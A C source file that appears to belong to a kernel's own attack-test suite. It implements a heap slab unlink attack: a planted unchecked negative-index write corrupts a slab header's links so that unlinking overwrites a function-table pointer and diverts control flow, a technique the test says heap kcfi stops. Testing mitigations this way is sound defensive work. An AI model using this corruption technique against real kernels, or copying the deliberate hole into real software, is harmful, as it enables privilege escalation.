/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The heap's own pointers: a write before the start of an object reaches the header of its slab, at the start of the
 * page, whose links are overwritten. When the slab fills up it is taken off its list, and that writes one of the links
 * where the other says: over the pointer to a table of operations.
 */
#include "attacks.h"

#include <kernel/heap.h>

#define SIZE 496 /* eight blocks a page, at most */
#define BLOCKS 8

/* The start of kernel/mm/heap_slab.c's struct slab. */
struct slab_links {
	uint64_t next, prev;
};

struct operations {
	uint64_t unused; /* what unlinking writes here does no harm */
	long (*run)(void *arg, size_t len);
};

static long length(void *arg, size_t len)
{
	return (long)len;
}

static const struct operations default_operations = { 0, length };
/* In the place of a slab, as unlinking sees it: its prev is what is overwritten. */
static struct {
	uint64_t unused;
	const struct operations *operations;
} driver = { 0, &default_operations };

/* The mistake: nobody checks index, which is negative. */
static NOINLINE void set_slot(uint64_t *slots, long index, uint64_t value)
{
	attack_opaque(slots)[index] = value;
}

static NOINLINE long drive(void *arg, size_t len)
{
	return (*attack_opaque(&driver.operations))->run(arg, len);
}

static bool benign(const struct attack *attack)
{
	uint64_t *slots = heap_zalloc(SIZE);
	bool right;

	if (!slots)
		return false;
	set_slot(slots, 3, 9);
	right = slots[3] == 9 && drive(slots, 5) == 5;
	heap_free(slots);
	return right;
}

static void run(const struct attack *attack)
{
	uintptr_t slide = attack_leaked_slide(), forged;
	struct operations operations = { 0 };
	uintptr_t goal = attack_linked_code(attack_goal) + slide;

	memcpy(&operations.run, &goal, sizeof(goal));
	forged = attack_leaked_heap(&operations, sizeof(operations));
	attack_primitive(attack);
	/* A slab that is full already is on no list: then the next one. */
	for (int tries = 0; tries < BLOCKS; tries++) {
		struct attack_leaky object = { .pointer = heap_zalloc(SIZE) };
		uintptr_t at = attack_leaky_read(&object, ATTACK_LEAK);
		long header = -(long)(at % PAGE_SIZE / sizeof(uint64_t));

		if (!at)
			attack_failed(attack, "no memory");
		set_slot((uint64_t *)at, header, attack_linked(&driver) + slide);
		set_slot((uint64_t *)at, header + 1, forged);
		for (int i = 0; i < BLOCKS && heap_alloc(SIZE); i++)
			drive(&object, 1);
	}
}

ATTACK(heap_unlink, .family = "heap metadata", .primitive = RELATIVE_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "heap kcfi", .about = "forged links of a slab, which unlinking writes through", .run = run,
       .benign = benign);
